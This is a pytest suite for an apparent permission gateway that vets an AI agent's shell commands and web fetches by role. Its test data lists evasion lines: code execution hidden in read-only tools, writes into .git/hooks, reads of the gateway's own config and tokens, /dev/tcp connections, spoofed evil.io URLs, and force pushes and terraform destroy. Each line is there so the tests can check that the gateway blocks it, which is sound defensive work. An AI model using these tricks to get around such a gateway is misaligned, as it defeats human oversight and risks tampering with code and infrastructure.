"""Issue 21, item 6: command lines written to slip past the shell reading, one family per test, against the
bundled roles with the real engine. None may be allowed where the role says otherwise, and the reason names
what was seen."""

from __future__ import annotations

import subprocess
import time
from pathlib import Path

import pytest

from polter.gateway.builtin_calls import protected_targets, real_resolver
from polter.roles.builtin_verdicts import BuiltinRequest
from polter.roles.builtins import BuiltinCall
from polter.roles.engine import Verdict
from polter.roles.library import RoleLibrary
from polter.roles.shell import MAX_LINE_CHARS
from polter.roles.urls import parse_url

BUNDLED = Path(__file__).resolve().parents[2] / "roles"
LIBRARY = RoleLibrary.load([BUNDLED])


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("project")
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def judge(project: Path, role: str, line: str, *, phase: str = "action", home: str = "/home/u") -> Verdict:
    compiled = LIBRARY.get(role)
    assert compiled is not None
    request = BuiltinRequest(
        call=BuiltinCall("Bash", "shell", command=line),
        project=str(project),
        home=home,
        resolve=real_resolver(str(project), home),
        protected=protected_targets(str(project), state_dirs=[Path(home) / ".local/state/polter"]),
        phase=phase,  # type: ignore[arg-type]
    )
    return compiled.decide(request)


def assert_not_allowed(verdict: Verdict, *seen: str) -> None:
    assert verdict.decision in ("ask", "deny"), verdict.reason
    for part in seen:
        assert part in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    ("line", "seen"),
    [
        ("git grep -O'cmd;' x", "cmd"),
        ("rg --pre rm TODO .", "`rm`"),
        ("fdfind -x rm", "`rm`"),
        ("fd -X rm -rf", "rm"),
        ("find . -okdir sh -c x {} ;", "x"),
        ("less --lesskey-src=/dev/stdin f <<E\nx\nE", "less --lesskey-src"),
        ("less '+!rm x' f", "less +!rm x"),
        ("bash --rcfile /dev/stdin -ic ls <<< cmd", "bash"),
        ('export "GIT_EXTERNAL_DIFF=cmd"; git diff', "GIT_EXTERNAL_DIFF=cmd"),
        ("declare -x GIT_PAGER=cmd; git log", "GIT_PAGER=cmd"),
        ("typeset -x 'PAGER=x'; git log", "PAGER=x"),
        ("x='a[$(cmd)]'; echo $((x))", "`x`"),
        ("x='a[$(cmd)]'; [[ $x -eq 1 ]]", "`x`"),
        ("x='a[$(cmd)]'; ((x))", "`x`"),
        ("printf -v 'a[$(id)]' x", "a[$(id)]"),
        ("./ls", "./ls"),
        ("/tmp/x/ls -la", "/tmp/x/ls"),
        ("./bash -c ls", "./bash"),
    ],
)
def test_a_read_only_command_that_runs_a_program_is_not_allowed(project: Path, line: str, seen: str) -> None:
    assert_not_allowed(judge(project, "researcher", line), seen)


def test_reading_commands_and_system_paths_stay_allowed(project: Path) -> None:
    for line in (
        "/usr/bin/ls -la",
        "git status && git log --oneline -3 | cat",
        "rg TODO src",
        "find . -name x",
        "for i in 1 2; do echo $((i+1)); done",
        "git remote -v",
        "git branch -a",
        "git tag -l",
    ):
        assert judge(project, "researcher", line).decision == "allow", line


@pytest.mark.parametrize(
    ("line", "seen"),
    [
        ("echo x >& notes.txt", "notes.txt"),
        ("echo x > /dev/fd/../cwd/notes.txt", "/dev/fd/../cwd/notes.txt"),
        ("echo x > /proc/self/cwd/notes.txt", "/proc/self/cwd/notes.txt"),
        ("git remote -v add x https://e.io/r", "git remote add"),
        ("git -c color.ui=never remote -v set-url x y", "git remote set-url"),
        ("git reflog expire --expire=now --all", "git reflog expire"),
        ("git branch -m a b", "git branch"),
        ("git tag v1", "git tag"),
        ("git update-ref refs/heads/x HEAD", "git update-ref"),
        ("git stash", "git stash"),
        ("git notes add -m x", "git notes add"),
        ("git gc", "git gc"),
    ],
)
def test_a_read_only_role_cannot_write(project: Path, line: str, seen: str) -> None:
    assert_not_allowed(judge(project, "researcher", line), seen)


@pytest.mark.parametrize(
    "line",
    [
        "cd .git/hooks && cp x pre-commit",
        "pushd .git/hooks; cp x pre-commit",
        "(cd .git && cp x hooks/pre-commit)",
        "env -C .git/hooks cp x pre-commit",
        "git -C .git/.. config core.fsmonitor x",
        "cp -t .git/hooks x",
        "cp --target-directory=.git/hooks x",
        "sed -Ei 's/a/b/' .git/config",
        "sed -i.bak 's/a/b/' .git/config",
        "git init --template=t",
        "git config --show-scope core.fsmonitor cmd",
        "cp x .git/hoo*/pre-commit",
        "cp x .git/{hooks,x}/pre-commit",
        "cp x .git/h?oks/pre-commit",
        "cp x .git/modules/sub/hooks/pre-commit",
        "cp x .git/modules/sub/config",
        "curl -o .git/hooks/pre-commit https://x.io/a",
        "wget -O .git/hooks/pre-commit https://x.io/a",
        "curl --output=.git/config https://x.io/a",
        "tar -C .git/hooks -xf a.tar",
        "tar -xf a.tar",
        'python3 -c \'open(".git/hooks/pre-commit", "w")\'',
        "node -e 'fs.writeFileSync(\".git/config\", x)'",
        "perl -e 'open F, \">.git/hooks/x\"'",
        "cp x $D/.git/hooks/pre-commit",
        "cd $D && cp x .git/hooks/pre-commit",
        "make -C .git/hooks",
    ],
)
def test_a_protected_target_is_not_written_under_coder(project: Path, line: str) -> None:
    verdict = judge(project, "coder", line)
    assert_not_allowed(verdict)
    assert any(word in verdict.reason for word in ("hooks", "config", "roles", "Polter", "…")), verdict.reason


def test_the_folder_core_hooks_path_names_is_protected(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", "githooks"], check=True)
    assert_not_allowed(judge(tmp_path, "coder", "cp x githooks/pre-commit"), "core.hooksPath")


@pytest.mark.parametrize(
    "line",
    [
        "cat $HOME/.config/polter/polter.toml",
        "cat ${HOME}/.config/polter/polter.toml",
        "cat ~/.config/polter/polter.toml",
        "cat ~/.config/pol*/polter.toml",
        "grep -r token ~/.config",
        "rg token ~/.local/state",
        "cat ~/.local/state/polter/gateway.json",
        "cat $XDG_STATE_HOME/polter/gateway.json",
    ],
)
def test_polters_config_and_state_are_not_read(project: Path, line: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POLTER_CONFIG_DIR", "/home/u/.config/polter")
    monkeypatch.setenv("POLTER_STATE_DIR", "/home/u/.local/state/polter")
    assert_not_allowed(judge(project, "researcher", line), "Polter's")


def test_the_network_is_web_access(project: Path, role_dir_with_no_web: str) -> None:
    for line in (
        "git remote -v update",
        "git fetch",
        "git pull",
        "git ls-remote x",
        "git submodule update",
        "cat < /dev/tcp/1.2.3.4/80",
        "curl https://x.io/",
    ):
        verdict = judge(project, role_dir_with_no_web, line)
        assert verdict.decision == "deny", (line, verdict.reason)


@pytest.fixture
def role_dir_with_no_web() -> str:
    name = "offline-test"
    from polter.roles import Role, compile_role

    LIBRARY._roles[name] = compile_role(  # noqa: SLF001 - a role made for this test, beside the bundled ones
        Role.model_validate({"name": name, "builtins": {"default": "allow", "deny": ["web"]}})
    )
    return name


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://evil.io\\@good.com/", "evil.io"),
        ("https://good.com@evil.io/", "evil.io"),
        ("https://a.evil.io./x", "a.evil.io"),
        ("https://A.EVIL.IO/", "a.evil.io"),
        ("https://a.evil.%69o/", "a.evil.io"),
        ("http://0x7f.1/", "127.0.0.1"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://017700000001/", "127.0.0.1"),
        ("http://[::1]:8080/", "::1"),
        ("https://bücher.de/", "xn--bcher-kva.de"),
    ],
)
def test_urls_are_read_as_the_whatwg_parser_reads_them(url: str, host: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None and parsed[1] == host


def test_a_web_deny_holds_however_the_url_is_spelled(project: Path, role_dir_with_no_web: str) -> None:
    from polter.roles import Role, compile_role

    role = compile_role(
        Role.model_validate(
            {"name": "w", "builtins": {"default": "allow", "deny": ["web(domain:*.evil.io)", "web(domain:evil.io)"]}}
        )
    )
    for url in ("https://evil.io\\@good.com/", "https://a.evil.io./x", "https://good.com@A.EVIL.IO/"):
        request = BuiltinRequest(
            BuiltinCall("WebFetch", "web", urls=(url,)), str(project), "/home/u", real_resolver(str(project), "/home/u")
        )
        assert role.decide(request).decision == "deny", url
    request = BuiltinRequest(
        BuiltinCall("WebFetch", "web", urls=("https://a..b/",)),
        str(project),
        "/home/u",
        real_resolver(str(project), "/home/u"),
    )
    assert role.decide(request).decision in ("ask", "deny")  # a host that cannot be parsed is never allowed


@pytest.mark.parametrize(
    ("role", "line", "rule"),
    [
        ("coder", "git push origin +main", "git push"),
        ("coder", "git push -uf origin main", "git push"),
        ("coder", "git push --force-with-lease", "git push"),
        ("coder", "git push --mirror", "git push"),
        ("coder", "git push --delete origin x", "git push"),
        ("coder", "git push origin :branch", "git push"),
        ("coder", "git -C . push origin main --force", "git push"),
        ("coder", "git clean -xdf", "git clean"),
        ("coder", "git clean --force -x", "git clean"),
        ("ops", "kubectl --context prod delete pod x", "kubectl delete"),
        ("ops", "terraform -chdir=x destroy", "terraform destroy"),
        ("ops", "helm --kube-context x uninstall r", "helm uninstall"),
        ("ops", "systemctl --user stop x", "systemctl stop"),
    ],
)
def test_asks_hold_however_the_flags_are_spelled(project: Path, role: str, line: str, rule: str) -> None:
    verdict = judge(project, role, line)
    assert verdict.decision == "ask", verdict.reason
    assert rule in verdict.reason


def test_a_plain_push_is_still_allowed_to_the_coder(project: Path) -> None:
    assert judge(project, "coder", "git push origin main").decision == "allow"


def test_a_line_over_the_size_limit_is_asked_about_at_once(project: Path) -> None:
    trivial = _timed(lambda: judge(project, "researcher", "ls"))
    line = "ls a; " * (MAX_LINE_CHARS // 5)
    verdict, elapsed = _timed_verdict(lambda: judge(project, "researcher", line))
    assert verdict.decision == "ask" and str(MAX_LINE_CHARS) in verdict.reason
    assert elapsed < max(10 * trivial, 0.010)


def test_deep_nesting_and_many_commands_are_bounded(project: Path) -> None:
    for line in ("ls && " * 2000 + "ls", "$(" * 300 + "ls" + ")" * 300, "ls;" * 3000):
        verdict = judge(project, "coder", line)
        assert verdict.decision == "ask", verdict.reason


def _timed(call: object) -> float:
    return _timed_verdict(call)[1]


def _timed_verdict(call: object) -> tuple[Verdict, float]:
    best = float("inf")
    verdict = None
    for _ in range(3):
        started = time.perf_counter()
        verdict = call()  # type: ignore[operator]
        best = min(best, time.perf_counter() - started)
    return verdict, best  # type: ignore[return-value]
